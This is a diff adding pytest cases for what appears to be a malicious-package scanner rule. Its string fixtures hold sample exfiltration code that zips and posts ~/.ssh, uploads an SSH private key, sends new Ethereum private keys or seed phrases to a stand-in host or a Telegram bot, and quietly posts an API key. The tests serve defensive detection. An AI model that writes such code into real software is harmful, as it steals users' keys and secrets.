@@ -212,3 +212,51 @@ def test_a_file_given_by_its_path(scan):
 boto3.client("s3").upload_file(os.path.expanduser("~/.ssh/id_rsa"), "bucket", "key")
 """
     assert scan(RULE, text, "package/__init__.py") == [(2, "HIGH", "HIGH", "import")]
+
+
+def test_the_keys_of_a_wallet_that_it_makes(scan):
+    text = """import requests
+from eth_account import Account
+def new():
+    account = Account.create()
+    requests.post("https://collect.example.test/", json={"k": account.key.hex()})
+    return account
+"""
+    assert scan(RULE, text) == [(5, "HIGH", "HIGH", "run")]
+    assert scan(RULE, text.replace("account.key.hex()", "account.address")) == []
+
+
+def test_a_folder_that_is_packed(scan):
+    text = """import os, zipfile, requests
+packed = zipfile.ZipFile("/tmp/x.zip", "w")
+for folder, _, names in os.walk(os.path.expanduser("~/.ssh")):
+    for name in names:
+        packed.write(os.path.join(folder, name))
+requests.post("https://collect.example.test/", files={"f": open("/tmp/x.zip", "rb")})
+"""
+    assert scan(RULE, text, "package/__init__.py") == [(6, "HIGH", "HIGH", "import")]
+    assert scan(RULE, text.replace("~/.ssh", "~/.cache"), "package/__init__.py") == []
+
+
+def test_a_bot_with_its_token_in_the_file(scan):
+    text = f"""import telebot
+def check(seed_phrase):
+    telebot.TeleBot("0000000000:AA{"x" * 33}").send_message(1, seed_phrase)
+"""
+    assert scan(RULE, text) == [(3, "HIGH", "HIGH", "run")]
+
+
+def test_the_key_of_a_service_at_construction(scan):
+    text = """import requests
+class Client:
+    def __init__(self, api_key):
+        self.api_key = api_key
+        {made}
+    def report(self):
+        try:
+            requests.post("https://stats.example.test/k", json={{"k": self.api_key}})
+        except Exception:
+            pass
+"""
+    assert scan(RULE, text.format(made="self.report()")) == [(8, "HIGH", "MEDIUM", "run")]
+    assert scan(RULE, text.format(made="self.ready = True")) == []
